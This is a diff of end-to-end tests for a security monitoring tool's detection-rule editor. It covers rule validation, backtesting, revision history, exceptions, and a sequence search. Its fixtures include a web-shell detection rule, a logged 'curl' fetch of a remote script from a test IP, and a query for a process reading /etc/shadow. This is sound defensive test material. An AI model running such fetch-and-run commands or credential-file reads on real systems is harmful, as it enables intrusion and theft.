@@ -179,6 +179,99 @@ const nodeTests = (world) => [
 	}],
 ];
 
+const RULE = `id: web-shell
+name: A web server starts a shell
+severity: high
+mitre: [T1505.003]
+query: |
+  process where event.action == "exec" and process.name == "dash" and process.parent.name : "python3*"
+tests:
+  - name: gunicorn
+    fires: true
+    events:
+      - { event.action: exec, process.executable: /usr/bin/dash, process.parent.executable: /usr/bin/python3.11 }
+`;
+
+const rulePanel = (page) => page.getByRole('complementary', { name: 'Rule' });
+
+const ruleTests = (world) => [
+	['rules_given_a_faulty_text_when_written_then_the_line_is_marked_with_what_was_expected', async () => {
+		const page = await world.open(path({ view: 'rules', sel: '+' }), { ready: '.rule-panel' });
+		const text = rulePanel(page).getByLabel('Text of the rule');
+		await rulePanel(page).getByText('valid, 1 of 1 tests pass').waitFor();
+		await text.fill(RULE.replace('process.name ==', 'process.nme =='));
+		await rulePanel(page).getByText(/unknown field 'process.nme'; did you mean process.name\?/).waitFor();
+		await rulePanel(page).locator('.code-numbers .grave').filter({ hasText: /^6$/ }).waitFor();
+		assert.equal(await rulePanel(page).getByRole('button', { name: /^Put it in force/ }).getAttribute('aria-disabled'), 'true');
+		await rulePanel(page).getByRole('alert').getByRole('button').click();
+		assert.equal(await text.evaluate((el) => el === document.activeElement && el.value.slice(0, el.selectionStart).split('\n').length), 6);
+		await text.fill(RULE.replace('fires: true', 'fires: false'));
+		await rulePanel(page).getByText(/test "gunicorn"/).waitFor();
+		assert.equal(await rulePanel(page).getByRole('button', { name: /^Put it in force/ }).getAttribute('aria-disabled'), 'true');
+	}],
+	['rules_given_a_text_when_backtested_applied_changed_and_rolled_back_then_each_is_shown', async () => {
+		const page = await world.open(path({ view: 'rules', sel: '+' }), { ready: '.rule-panel' });
+		const panel = rulePanel(page);
+		await panel.getByLabel('Text of the rule').fill(RULE);
+		await panel.getByText('valid, 1 of 1 tests pass').waitFor();
+		await panel.getByRole('button', { name: /^See what it would have found/ }).click();
+		const backtest = panel.getByRole('region', { name: 'Backtest' });
+		await backtest.getByText('1 event', { exact: true }).waitFor();
+		await backtest.locator('canvas').waitFor();
+		await backtest.getByText('curl -fsS http://203.0.113.66/i.sh').waitFor();
+		await panel.getByLabel('Why it is changed').fill('first');
+		await panel.getByRole('button', { name: /^Put it in force/ }).click();
+		await until('it is chosen in the list', async () => (await inUrl(page, 'sel')) === 'web-shell');
+		await page.getByRole('row', { name: /A web server starts a shell/ }).waitFor();
+		await panel.getByLabel('Text of the rule').fill(RULE.replace('severity: high', 'severity: low'));
+		const diff = panel.getByRole('group', { name: 'What changes' });
+		await diff.getByText('removed: severity: high').waitFor();
+		await diff.getByText('added: severity: low').waitFor();
+		await panel.getByLabel('Why it is changed').fill('too loud');
+		await until('it can be applied', async () => (await panel.getByRole('button', { name: /^Put it in force/ }).getAttribute('aria-disabled')) !== 'true');
+		await panel.getByRole('button', { name: /^Put it in force/ }).click();
+		await panel.getByRole('tab', { name: 'History (2)' }).click();
+		await panel.locator('.revision', { hasText: 'first' }).click();
+		await panel.getByText('added: severity: low').waitFor();
+		await panel.getByRole('button', { name: 'Put revision 1 in force again' }).click();
+		await panel.getByRole('button', { name: 'Really: Put revision 1 in force again' }).click();
+		await panel.getByRole('tab', { name: 'History (3)' }).waitFor();
+		await panel.getByRole('tab', { name: 'Text' }).click();
+		await until('the first text is in force', async () => (await panel.getByLabel('Text of the rule').inputValue()) === RULE);
+	}],
+	['rules_given_a_rule_when_disabled_found_and_excepted_then_list_and_panel_follow', async () => {
+		const page = await world.open(path({ view: 'rules', sel: 'web-shell' }), { ready: '.rule-panel h2' });
+		const panel = rulePanel(page);
+		await panel.getByRole('button', { name: /^It is enabled/ }).click();
+		await page.getByRole('row', { name: /A web server starts a shell/ }).getByText('disabled').waitFor();
+		await panel.getByRole('button', { name: /^It is disabled/ }).click();
+		await panel.getByRole('button', { name: /^It is enabled/ }).waitFor();
+		await panel.getByRole('tab', { name: 'Exceptions (0)' }).click();
+		await panel.getByLabel('Condition').fill('user.name == "ci"');
+		await panel.getByLabel('Why').fill('builds');
+		await panel.getByLabel('Your name').fill('alice');
+		await panel.getByRole('button', { name: 'Add the exception' }).click();
+		await panel.getByRole('tab', { name: 'Exceptions (1)' }).waitFor();
+		await panel.getByText('user.name == "ci"').waitFor();
+		await page.getByLabel('Find a rule').fill('nothing has this');
+		await until('no row is left', async () => (await page.locator('.data-row[data-index]').count()) === 0);
+		await page.getByLabel('Find a rule').fill('T1505');
+		await page.getByRole('row', { name: /A web server starts a shell/ }).waitFor();
+	}],
+];
+
+const sequenceTests = (world) => [
+	['search_given_a_sequence_when_run_then_groups_with_their_events', async () => {
+		const q = 'sequence by process.entity_id with maxspan=5m [process where event.action == "exec" and process.name == "kworkerd"] [file where file.path == "/etc/shadow"]';
+		const page = await world.open(path({ since: '-24h', q }), { ready: '.hit.group' });
+		assert.equal(await page.locator('.status strong').innerText(), '1 group');
+		assert.match(await page.locator('.hit.group').innerText(), /2 events within 4 s/);
+		await page.locator('.vlist-body .hit', { hasText: '/etc/shadow' }).click();
+		await page.getByRole('complementary', { name: 'Event' }).getByText('EACCES').first().waitFor();
+		assert.match(await page.locator('.live-toggle').getAttribute('title'), /^Not live: sequences/);
+	}],
+];
+
 const TIMELINE = '.timeline-canvas';
 
 /** Whether anything of @colour (a token) is drawn on the canvas. */
@@ -247,4 +340,4 @@ const timelineTests = (world) => [
 	}],
 ];
 
-export const fleetTests = (world) => [...timelineTests(world), ...searchTests(world), ...processTests(world), ...nodeTests(world)];
+export const fleetTests = (world) => [...ruleTests(world), ...sequenceTests(world), ...timelineTests(world), ...searchTests(world), ...processTests(world), ...nodeTests(world)];
